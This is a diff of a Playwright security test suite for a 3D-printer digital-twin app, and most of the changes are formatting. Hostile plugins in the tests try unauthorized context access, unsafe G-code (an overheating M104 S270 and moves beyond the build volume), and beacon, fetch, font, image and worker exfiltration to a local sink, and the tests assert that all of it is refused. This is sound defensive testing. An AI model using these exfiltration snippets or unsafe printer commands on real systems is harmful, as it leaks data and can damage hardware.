@@ -8,7 +8,6 @@ import { composeAppearance, hostileGranule } from './hostile';
 import { freePort } from '../../scripts/stack/ports';
 import type { Page } from '@playwright/test';
 
-
 const ATTACK = `
   const heard = { exchange: 0, reading: 0 };
   exports.start = () => {
@@ -49,21 +48,33 @@ const items = async (page: Page) => {
 };
 
 test.describe('capabilities on the Twins page', () => {
-  test('attack: an appearance granule reads four contexts, listens to communication and sends M104 S270, G28, G1 X500 Y500 Z600 through it', async ({ page, stack }) => {
+  test('attack: an appearance granule reads four contexts, listens to communication and sends M104 S270, G28, G1 X500 Y500 Z600 through it', async ({
+    page,
+    stack,
+  }) => {
     const violations: string[] = [];
     page.on('console', (m) => /Content.Security.Policy|Refused to/i.test(m.text()) && violations.push(m.text()));
     await composeAndRun(page, stack.appUrl, hostile('nosy'), 'nosy');
     await expect(page.getByTestId('envelope')).toContainText('hotend up to 260 °C');
     const seen = await items(page);
     expect(seen).toEqual({
-      mechanical: 'refused', formalization: 'refused', task: 'refused', communication: 'refused',
-      'M104 S270': 'refused', G28: 'refused', 'G1 X500 Y500 Z600': 'refused', printer: 'refused',
-      sensing: 'reached', 'heard exchange': '0',
+      mechanical: 'refused',
+      formalization: 'refused',
+      task: 'refused',
+      communication: 'refused',
+      'M104 S270': 'refused',
+      G28: 'refused',
+      'G1 X500 Y500 Z600': 'refused',
+      printer: 'refused',
+      sensing: 'reached',
+      'heard exchange': '0',
     });
     // The incidents name the granule in plain words.
     const incidents = page.getByTestId('incidents');
     await expect(incidents.locator('li[data-kind="denied"][data-granule="mallory/nosy"]')).toHaveCount(9);
-    await expect(incidents).toContainText('The appearance part of the twin — granule “mallory/nosy” 1.0.0 by Mallory — tried to do something it is not allowed to do, and was refused.');
+    await expect(incidents).toContainText(
+      'The appearance part of the twin — granule “mallory/nosy” 1.0.0 by Mallory — tried to do something it is not allowed to do, and was refused.',
+    );
     await expect(incidents).toContainText('It called the mechanical context ("spec"), which its granule.json does not declare as a dependency');
     await expect(incidents).toContainText('It subscribed to the "communication:exchange" event');
     await expect(incidents).toContainText('Nothing reached the printer');
@@ -84,11 +95,21 @@ test.describe('capabilities on the Twins page', () => {
   });
 
   test('attack: declaring communication as a dependency still keeps its commands inside the envelope', async ({ page, stack }) => {
-    const bytes = hostile('bold', [{ name: 'sensing', version: '^1.0.0' }, { name: 'communication', version: '^1.0.0' }]);
+    const bytes = hostile('bold', [
+      { name: 'sensing', version: '^1.0.0' },
+      { name: 'communication', version: '^1.0.0' },
+    ]);
     await composeAndRun(page, stack.appUrl, bytes, 'bold');
     const seen = await items(page);
     // Its declared dependency answers; G28 is inside the envelope; the rest is not.
-    expect(seen).toMatchObject({ communication: 'reached', G28: 'reached', 'M104 S270': 'refused', 'G1 X500 Y500 Z600': 'refused', printer: 'refused', mechanical: 'refused' });
+    expect(seen).toMatchObject({
+      communication: 'reached',
+      G28: 'reached',
+      'M104 S270': 'refused',
+      'G1 X500 Y500 Z600': 'refused',
+      printer: 'refused',
+      mechanical: 'refused',
+    });
     const incidents = page.getByTestId('incidents');
     await expect(incidents).toContainText('"M104 S270", which was refused: 270 °C is above the 260 °C the hotend may reach');
     await expect(incidents).toContainText('X 500 mm is outside the build volume (0–280 mm)');
@@ -119,7 +140,12 @@ test.describe('capabilities on the Twins page', () => {
         return { type: 'kv', items: [['tried', 'yes']] };
       } };`;
     try {
-      await composeAndRun(page, stack.appUrl, hostileGranule('leaky', exfiltrate, { printer: 'jgaurora-z-603s', manifest: { owner: { publicKey: '' } } }), 'leaky');
+      await composeAndRun(
+        page,
+        stack.appUrl,
+        hostileGranule('leaky', exfiltrate, { printer: 'jgaurora-z-603s', manifest: { owner: { publicKey: '' } } }),
+        'leaky',
+      );
       await expect(page.getByTestId('context-view')).toContainText('tried');
       await page.waitForTimeout(1500);
       expect(hits).toEqual([]);
@@ -139,14 +165,33 @@ test.describe('capabilities on the Twins page', () => {
       await page.goto(`${stack.appUrl}/#/twins`);
       const sinkUrl = `http://127.0.0.1:${port}`;
       await page.evaluate(async (s) => {
-        const within = (p: () => unknown) => Promise.race([Promise.resolve().then(p).catch(() => null), new Promise((r) => setTimeout(r, 1500))]);
+        const within = (p: () => unknown) =>
+          Promise.race([
+            Promise.resolve()
+              .then(p)
+              .catch(() => null),
+            new Promise((r) => setTimeout(r, 1500)),
+          ]);
         await within(() => fetch(`${s}/fetch`, { mode: 'no-cors' }));
         await within(() => new FontFace('x', `url(${s}/font)`).load());
-        await within(() => new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = `${s}/img`; }));
+        await within(
+          () =>
+            new Promise((r) => {
+              const i = new Image();
+              i.onload = i.onerror = r;
+              i.src = `${s}/img`;
+            }),
+        );
         await within(() => navigator.sendBeacon(`${s}/beacon`, 'secret'));
         const code = `onmessage = async (e) => { try { await fetch(e.data + '/worker-fetch', { mode: 'no-cors' }); } catch {} try { await new FontFace('y', 'url(' + e.data + '/worker-font)').load(); } catch {} postMessage('done'); };`;
         const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
-        await within(() => new Promise((r) => { w.onmessage = r; w.postMessage(s); }));
+        await within(
+          () =>
+            new Promise((r) => {
+              w.onmessage = r;
+              w.postMessage(s);
+            }),
+        );
       }, sinkUrl);
       await page.waitForTimeout(500);
       expect(hits).toEqual([]);
